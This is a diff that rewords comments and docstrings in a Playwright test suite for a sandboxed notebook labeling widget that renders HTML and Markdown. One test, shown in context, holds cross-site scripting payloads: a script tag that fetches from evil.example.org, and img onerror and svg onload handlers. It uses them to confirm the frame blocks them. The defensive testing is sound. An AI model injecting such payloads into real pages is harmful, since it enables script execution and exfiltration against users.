@@ -1,4 +1,4 @@
-"""HTML and Markdown on the card: readable, keys kept, and without any right."""
+"""HTML and Markdown on the card: readable, with the keys kept, and without any permissions."""
 
 from __future__ import annotations
 
@@ -50,7 +50,7 @@ hitl.{widget}(session)"""
 
 
 class Desktop:
-    """A notebook that shows one such pool, and what its page asked of other hosts."""
+    """A notebook that shows such a pool, and the requests of its page to other hosts."""
 
     def __init__(self, desk, source, kind, hosts=(), widget="Labeler", **look):
         (desk.folder / "item.txt").write_text(source)
@@ -62,7 +62,7 @@ class Desktop:
         self.frame.locator("h1").wait_for()
 
     def click(self, place):
-        """A click in the frame, by the mouse: what a person does."""
+        """Click in the frame with the mouse."""
         box = place.bounding_box()
         self.page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
 
@@ -97,7 +97,7 @@ def test_markup_is_read_in_the_page_s_colours_and_keys_go_on_after_a_click(desk,
     at.bench.acknowledged()
     assert at.bench.n_labels == 1
 
-    # A link says where it leads, and leads nowhere.
+    # A link shows its target and does not open it.
     at.click(at.frame.locator("a").first)
     at.wait_focus("hitl-labeler")
     assert at.frame.locator("h1").count() == 1
@@ -137,7 +137,7 @@ def test_an_image_is_loaded_from_a_host_that_was_named_and_from_no_other(desk):
 
 
 def test_what_a_broken_sanitiser_would_let_through_runs_in_no_frame(desk):
-    """The frame alone: the kernel's sanitiser is taken away."""
+    """Only the frame protects: the kernel's sanitiser is disabled."""
     evil = (
         "<script>parent.__pwned = 1; fetch('https://evil.example.org/s')</script>"
         "<img src=x onerror='top.__pwned = 1'><svg onload='top.__pwned = 1'></svg>"
@@ -163,7 +163,7 @@ def test_what_a_broken_sanitiser_would_let_through_runs_in_no_frame(desk):
         box = frame.locator(name).bounding_box()
         notebook.page.mouse.click(box["x"] + 5, box["y"] + 5)
     notebook.page.wait_for_timeout(500)
-    # Chromium connects before it finds that the policy forbids a frame: a name is told, nothing is asked.
+    # Chromium connects before it finds that the policy forbids a frame: a name leaks, but no request is sent.
     assert set(desk.fence.crossed) <= {"CONNECT frame.example.org:443"}
     desk.fence.crossed.clear()
     assert frame.locator("h1").inner_text() == "here"
